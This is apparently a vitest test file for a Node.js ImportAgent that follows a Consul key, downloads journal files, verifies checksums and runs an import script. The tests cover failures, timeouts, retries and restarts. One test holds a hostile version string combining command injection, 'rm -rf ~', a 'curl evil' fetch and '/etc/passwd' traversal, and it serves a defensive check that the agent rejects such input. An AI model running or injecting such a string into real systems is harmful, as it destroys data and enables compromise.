import { createHash } from 'node:crypto';
import { createReadStream, createWriteStream } from 'node:fs';
import { mkdir, mkdtemp, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import Consul from 'consul';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ConsulKv } from '../../src/adapters/consul.js';
import { NotFoundError, UpstreamError } from '../../src/core/errors.js';
import type { ObjectInfo, ObjectStore } from '../../src/core/ports.js';
import {
  ImportAgent,
  type ImportAgentOptions,
  type ImportReport,
  OUTPUT_TAIL_BYTES,
  type ResolvedVersion,
} from '../../src/journal/import-agent.js';
import { ConsulFake } from '../support/consul-fake.js';

/** The simplest ObjectStore: one file per key in a folder (the real ones live elsewhere). */
class FolderObjects implements ObjectStore {
  failGets = 0;
  constructor(private readonly root: string) {}
  async put(key: string, body: Readable, options: { metadata: Record<string, string> }): Promise<void> {
    await mkdir(dirname(join(this.root, key)), { recursive: true });
    await pipeline(body, createWriteStream(join(this.root, key)));
    await writeFile(`${join(this.root, key)}.meta`, JSON.stringify(options.metadata));
  }
  async get(key: string): Promise<Readable> {
    if (this.failGets > 0) {
      this.failGets -= 1;
      throw new UpstreamError('objects', 'store unavailable');
    }
    if (!(await this.head(key))) throw new NotFoundError(`no object ${key}`);
    return createReadStream(join(this.root, key));
  }
  async head(key: string): Promise<ObjectInfo | null> {
    const s = await stat(join(this.root, key)).catch(() => null);
    if (!s) return null;
    return {
      key,
      size: s.size,
      metadata: JSON.parse(await readFile(`${join(this.root, key)}.meta`, 'utf8')),
    };
  }
  async list(prefix: string): Promise<ObjectInfo[]> {
    const names = await readdir(join(this.root, prefix)).catch(() => []);
    const infos = await Promise.all(names.filter((n) => !n.endsWith('.meta')).map((n) => this.head(join(prefix, n))));
    return infos.filter((i): i is ObjectInfo => i !== null);
  }
}

const IMPORT_SCRIPT = `
import { appendFileSync, readFileSync } from 'node:fs';
const args = process.argv.slice(2);
const file = args[args.indexOf('--journal') + 1] ?? args.at(-1);
const content = readFileSync(file, 'utf8');
appendFileSync(process.env.RECORD, JSON.stringify({ args, file, content, version: process.env.JOURNAL_VERSION }) + '\\n');
if (content.startsWith('FAIL')) {
  for (let i = 0; i < 400; i++) console.log('line ' + i + ' of a long import log');
  console.error('fatal: bad journal');
  process.exit(3);
}
if (content.startsWith('HANG')) setInterval(() => {}, 1000);
else console.log('imported ' + content.length + ' bytes');
`;

const KEY = 'journal_version/qa';
const V1 = '2026.03.14-dev-model.1';
const V2 = '2026.03.15-dev-model.2';

let dir: string;
let fake: ConsulFake;
let client: Consul;
let kv: ConsulKv;
let objects: FolderObjects;
let registry: Map<string, ResolvedVersion>;
let resolved: string[];
let stops: (() => Promise<void>)[];

beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'import-agent-'));
  await writeFile(join(dir, 'import.mjs'), IMPORT_SCRIPT);
  fake = await ConsulFake.start();
  client = new Consul({ host: '127.0.0.1', port: fake.port });
  kv = new ConsulKv(client);
  objects = new FolderObjects(join(dir, 'objects'));
  registry = new Map();
  resolved = [];
  stops = [];
});

afterEach(async () => {
  for (const stop of stops.splice(0)) await stop();
  client.destroy();
  await fake.close();
  await rm(dir, { recursive: true, force: true });
});

async function publish(version: string, content: string, registeredSha256?: string): Promise<void> {
  const objectKey = `journals/${version}/journal.dat`;
  await objects.put(objectKey, Readable.from([Buffer.from(content)]), { metadata: {} });
  const sha256 = registeredSha256 ?? createHash('sha256').update(content).digest('hex');
  registry.set(version, { objectKey, sha256, size: Buffer.byteLength(content), file: 'journal.dat' });
}

/** Start an agent; `next()` resolves with each report as it arrives. */
function startAgent(overrides: Partial<ImportAgentOptions> = {}) {
  const reports: ImportReport[] = [];
  const waiting: ((r: ImportReport) => void)[] = [];
  let delivered = 0;
  const controller = new AbortController();
  const agent = new ImportAgent({
    env: 'qa',
    key: KEY,
    kv,
    objects,
    resolveVersion: async (version) => {
      resolved.push(version);
      const r = registry.get(version);
      if (!r) throw new NotFoundError(`version ${version} is not registered`);
      return r;
    },
    importCommand: [process.execPath, join(dir, 'import.mjs'), '--journal', '{file}', '--env', 'qa'],
    timeoutMs: 30_000,
    stateFile: join(dir, 'state', 'qa.json'),
    report: async (r) => {
      reports.push(r);
      const waiter = waiting.shift();
      if (waiter) {
        delivered += 1;
        waiter(r);
      }
    },
    signal: controller.signal,
    workDir: dir,
    waitMs: 60_000,
    backoff: { minMs: 5, maxMs: 20 },
    killGraceMs: 200,
    commandEnv: { ...process.env, RECORD: join(dir, 'record.jsonl') },
    ...overrides,
  });
  const running = agent.run();
  const stop = async () => {
    controller.abort();
    await running;
  };
  stops.push(stop);
  const next = () =>
    new Promise<ImportReport>((resolve) => {
      if (reports.length > delivered)
        resolve(reports[delivered++]!); // in range: length checked
      else waiting.push(resolve);
    });
  return { reports, next, stop };
}

async function runs(): Promise<{ args: string[]; file: string; content: string; version: string }[]> {
  const text = await readFile(join(dir, 'record.jsonl'), 'utf8').catch(() => '');
  return text
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l));
}

describe('ImportAgent', () => {
  it('imports the version the pointer names, passing the downloaded file as an argument', async () => {
    await publish(V1, 'journal one');
    const agent = startAgent();
    await expect.poll(() => fake.heldRequests, { timeout: 10_000 }).toBe(1); // the agent waits in a blocking query
    fake.set(KEY, V1);
    const report = await agent.next();
    expect(report).toMatchObject({ env: 'qa', version: V1, ok: true, exitCode: 0 });
    expect(report.outputTail).toContain('imported 11 bytes');

    const [run] = await runs();
    expect(run).toMatchObject({ content: 'journal one', version: V1 });
    expect(run?.args).toEqual(['--journal', run?.file, '--env', 'qa']);
    expect(run?.file.endsWith('journal.dat')).toBe(true);
    const state = JSON.parse(await readFile(join(dir, 'state', 'qa.json'), 'utf8'));
    expect(state.imported.version).toBe(V1);

    // Followed with blocking queries: one plain read at start, nothing polled.
    expect(fake.blockingRequests).toBeGreaterThan(0);
    expect(fake.requests.filter((r) => r.method === 'GET' && !r.query.index)).toHaveLength(1);
  });

  it('refuses a download whose checksum differs from the registry, without importing', async () => {
    await publish(V1, 'tampered journal', 'a'.repeat(64));
    const agent = startAgent();
    fake.set(KEY, V1);
    const report = await agent.next();
    expect(report).toMatchObject({ version: V1, ok: false, exitCode: null });
    expect(report.error).toMatch(/checksum mismatch/);
    expect(await runs()).toHaveLength(0);
  });

  it('reports a failing import with its exit code and output tail, once, and acts on the next pointer', async () => {
    await publish(V1, 'FAIL this journal');
    await publish(V2, 'a good journal');
    const agent = startAgent();
    fake.set(KEY, V1);
    const failed = await agent.next();
    expect(failed).toMatchObject({ version: V1, ok: false, exitCode: 3, error: 'import exited with code 3' });
    expect(failed.outputTail).toContain('fatal: bad journal');
    expect(failed.outputTail).not.toContain('line 0 of');
    expect(Buffer.byteLength(failed.outputTail)).toBeLessThanOrEqual(OUTPUT_TAIL_BYTES);

    fake.set('journal_version/dit', V1); // other keys do not wake the agent
    fake.set(KEY, V2);
    expect(await agent.next()).toMatchObject({ version: V2, ok: true });
    expect((await runs()).map((r) => r.version)).toEqual([V1, V2]);
  });

  it('does not import again after a restart, but follows later changes', async () => {
    await publish(V1, 'journal one');
    await publish(V2, 'journal two');
    const first = startAgent();
    fake.set(KEY, V1);
    expect(await first.next()).toMatchObject({ version: V1, ok: true });
    await first.stop();

    const second = startAgent();
    fake.set(KEY, V2);
    expect(await second.next()).toMatchObject({ version: V2, ok: true });
    expect(second.reports.map((r) => r.version)).toEqual([V2]);
    expect((await runs()).map((r) => r.version)).toEqual([V1, V2]);
  });

  it('ignores and reports a hostile version string without using it', async () => {
    await publish(V1, 'journal one');
    const agent = startAgent();
    const hostile = `${V1}; rm -rf ~ $(curl evil) ../../etc/passwd`;
    fake.set(KEY, hostile);
    const report = await agent.next();
    expect(report).toMatchObject({ version: '(invalid)', ok: false });
    expect(report.error).toMatch(/invalid version/);
    expect(JSON.stringify(report)).not.toContain('rm -rf');
    expect(resolved).toEqual([]);

    fake.set(KEY, V1);
    expect(await agent.next()).toMatchObject({ version: V1, ok: true });
    expect(resolved).toEqual([V1]);
  });

  it('retries a failing download with backoff', async () => {
    await publish(V1, 'journal one');
    objects.failGets = 2;
    const agent = startAgent();
    fake.set(KEY, V1);
    expect(await agent.next()).toMatchObject({ version: V1, ok: true });
    expect(objects.failGets).toBe(0);
  });

  it('stops an import that runs past its timeout and reports it', async () => {
    await publish(V2, 'HANG forever');
    const agent = startAgent({ timeoutMs: 300 });
    fake.set(KEY, V2);
    const hung = await agent.next();
    expect(hung).toMatchObject({ version: V2, ok: false, exitCode: null });
    expect(hung.error).toMatch(/timed out/);
  });

  it('keeps a report the bot did not take and delivers it after a restart', async () => {
    await publish(V1, 'journal one');
    let refuse = true;
    const first = startAgent({
      report: async () => {
        if (refuse) throw new UpstreamError('bot', 'bot unavailable');
      },
    });
    fake.set(KEY, V1);
    await expect.poll(async () => (await runs()).length, { timeout: 10_000 }).toBe(1);
    await expect
      .poll(
        async () =>
          JSON.parse(await readFile(join(dir, 'state', 'qa.json'), 'utf8').catch(() => '{}')).pendingReport?.version,
        {
          timeout: 10_000,
        },
      )
      .toBe(V1);
    await first.stop();
    refuse = false;

    const second = startAgent();
    expect(await second.next()).toMatchObject({ version: V1, ok: true });
    expect(await runs()).toHaveLength(1);
  });
});
